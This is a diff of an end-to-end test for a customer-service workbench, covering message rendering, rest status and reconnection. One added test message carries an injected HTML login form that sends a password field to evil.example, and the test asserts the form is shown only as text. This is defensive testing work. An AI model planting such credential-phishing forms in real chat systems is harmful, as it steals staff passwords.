@@ -5,7 +5,7 @@
  */
 import t from 'tap';
 import type { Browser, Page } from 'playwright-core';
-import { srcOf, textBody, type TestClient } from '../helpers/client';
+import { srcBody, srcOf, textBody, type TestClient } from '../helpers/client';
 import { CS, KEY, startTestServer, testApp, type TestServer } from '../helpers/server';
 import { DESKTOP, PHONE, accessibilityFaults, launchBrowser, person, screenshot, watchErrors } from '../helpers/browser';
 import { rest } from '../contract/rest-client';
@@ -112,20 +112,29 @@ t.test('serving several users from the workbench', async (t) => {
   await alice.locator('.session-item', { hasText: `已转接给 ${BOB}` }).waitFor();
   t.pass('the session moved to bob, with its history');
 
-  // Rest with a reason.
-  await alice.getByLabel('状态').selectOption('rest');
-  await alice.getByLabel('小休原因').fill('午饭');
-  await alice.getByLabel('小休原因').blur();
-  await waitStatus(ALICE, 3);
-  t.pass('rest reaches the server');
+  // A user cannot draw on the agent's screen: rich text, notices and cards from a user are shown as their text.
+  await u1.request('message.send', { to: CS, random: 3, body: srcBody('30', { content: '<form action="https://evil.example/"><input type="password" name="p"><button>登录已过期</button></form>' }) });
+  await u1.request('message.send', { to: CS, random: 4, body: srcBody('19') });
+  await pane1.getByText(/evil\.example/).waitFor();
+  t.equal(await pane1.locator('.messages form, .messages input').count(), 0, 'no form or input from a user');
+  t.equal(await pane1.getByText('会话已结束').count(), 0, 'no fake "session ended" notice');
 
-  // The connection drops: the page reconnects and still holds user-1, whose next message arrives.
+  // Rest with a reason, typed slowly (the page redraws every second meanwhile).
+  await alice.getByLabel('状态').selectOption('rest');
+  await alice.getByLabel('小休原因').pressSequentially('午饭时间', { delay: 400 });
+  await alice.getByLabel('小休原因').press('Tab');
+  await waitStatus(ALICE, 3);
+  t.equal(await alice.getByLabel('小休原因').inputValue(), '午饭时间', 'what was typed stays, and rest reached the server');
+
+  // The network goes down; a message arrives meanwhile; the page comes back and shows it.
+  proxy.pause();
   proxy.drop();
   await alice.getByText('正在重连…').waitFor();
-  await alice.getByText('已连接').waitFor({ timeout: 30_000 });
   await u1.request('message.send', { to: CS, random: 2, body: textBody('我还在') });
+  proxy.resume();
+  await alice.getByText('已连接').waitFor({ timeout: 30_000 });
   await pane1.getByText('我还在').waitFor();
-  t.pass('after the reconnect the session and its messages are still there');
+  t.pass('after the reconnect the session is held and what was missed is shown');
 
   await alice.setViewportSize(PHONE);
   await screenshot(alice, 'desk-two-sessions-phone');
